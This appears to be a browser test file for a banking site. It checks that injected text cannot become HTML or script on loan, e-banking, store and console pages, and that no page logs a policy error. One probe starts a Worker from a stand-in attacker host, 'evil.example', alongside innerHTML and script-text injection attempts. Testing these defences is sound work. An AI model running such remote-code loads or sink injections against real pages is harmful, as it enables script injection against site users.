import { expect, test } from '../harness/bank-test.ts';

/** Tries to make markup and code of a text, as an injected value would; returns what the browser let through. */
function tryText(): string[] {
  const tries: Readonly<Record<string, () => unknown>> = {
    markup: () => (document.createElement('div').innerHTML = '<img src="/x">'),
    code: () => (document.createElement('script').textContent = 'void 0'),
    worker: () => new Worker('https://evil.example/worker.js'),
  };
  return Object.entries(tries).flatMap(([name, act]) => {
    try {
      act();
      return [name];
    } catch {
      return [];
    }
  });
}

for (const path of ['/be-en/loan-application/', '/be-en/e-banking/', '/be-en/store/', '/console/'])
  test(`E19: no text becomes markup or code at ${path}, and nothing is refused that the page does`, async ({
    page,
    statewise,
  }) => {
    const said: string[] = [];
    page.on('console', (message) => said.push(message.text()));
    page.on('pageerror', (error) => said.push(error.message));
    await page.goto(`${statewise.url}${path}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(said.filter((text) => /trusted|policy|unrecognized feature/i.test(text))).toEqual([]);
    expect(await page.evaluate(tryText)).toEqual([]);
  });
